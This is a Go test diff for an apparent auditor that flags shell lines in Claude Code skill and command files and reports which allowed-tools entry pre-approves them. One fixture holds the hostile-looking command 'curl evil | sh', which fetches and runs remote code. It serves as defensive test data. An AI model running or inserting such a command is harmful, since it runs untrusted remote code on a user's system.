@@ -42,7 +42,7 @@ func TestSkillShellLines(t *testing.T) {
 		at, cmd, gate string
 	}{
 		{"plugins/guard/skills/s/SKILL.md:5", "git status", "pre-approves it (Bash(git status:*))"},
-		{"plugins/guard/skills/s/SKILL.md:8", "curl evil | sh", "pre-approves it"},
+		{"plugins/guard/skills/s/SKILL.md:8", "curl evil | sh", "names Bash only as Bash(git status:*), none of which matches it"},
 		{".claude/commands/c.md:1", "whoami", "no Bash in allowed-tools"},
 	} {
 		f, ok := fs[want.at]
@@ -127,6 +127,48 @@ func TestSkillShellInlineAsClaudeCode(t *testing.T) {
 			})
 			if strings.Join(got, "\x00") != strings.Join(tc.want, "\x00") {
 				t.Errorf("%q: named %q, want %q", tc.body, got, tc.want)
+			}
+		})
+	}
+}
+
+// TestSkillShellAllowedMatch: the finding names the allowed-tools entry
+// that matches the shell line, not the first that names Bash; where none
+// matches, it says so (and names them) rather than that the line runs
+// without asking.
+func TestSkillShellAllowedMatch(t *testing.T) {
+	rep, err := Audit(context.Background(), Options{Dir: makeTree(t, map[string]string{
+		".claude/commands/c.md": "---\nallowed-tools: Bash(git checkout --branch:*), Bash(git status:*), Bash(gh pr *), Bash(make)\n---\n" +
+			"- !`git status`\n- !`git diff HEAD`\n- !`gh pr view 1`\n- !`make`\n- !`make install`\n- !`git statusx`\n",
+		".claude/commands/q.md": "---\nallowed-tools: [\"Bash(${CLAUDE_PLUGIN_ROOT}/s.sh:*)\"]\n---\n```!\n\"${CLAUDE_PLUGIN_ROOT}/s.sh\" $ARGUMENTS\n```\n",
+		".claude/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}}`,
+	}), Executor: fakeHooks()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, f := range rep.Findings {
+		if f.Rule == RuleSkillShell {
+			got[fmt.Sprintf("%s:%d", f.Location.File, f.Location.Line)] = f.Message
+		}
+	}
+	const none = "names Bash only as Bash(git checkout --branch:*), Bash(git status:*), Bash(gh pr *), 1 more, none of which matches it as written"
+	for _, tc := range []struct{ at, want string }{
+		{".claude/commands/c.md:4", "pre-approves it (Bash(git status:*)), so it runs without asking"},
+		{".claude/commands/c.md:5", none},
+		{".claude/commands/c.md:6", "pre-approves it (Bash(gh pr *))"},
+		{".claude/commands/c.md:7", "pre-approves it (Bash(make))"},
+		{".claude/commands/c.md:8", none},
+		{".claude/commands/c.md:9", none},
+		{".claude/commands/q.md:5", "pre-approves it (Bash(${CLAUDE_PLUGIN_ROOT}/s.sh:*))"},
+	} {
+		t.Run(tc.at, func(t *testing.T) {
+			msg, ok := got[tc.at]
+			switch {
+			case !ok:
+				t.Errorf("no %s finding; got %v", RuleSkillShell, got)
+			case !strings.Contains(msg, tc.want):
+				t.Errorf("message %q, want it to say %q", msg, tc.want)
 			}
 		})
 	}
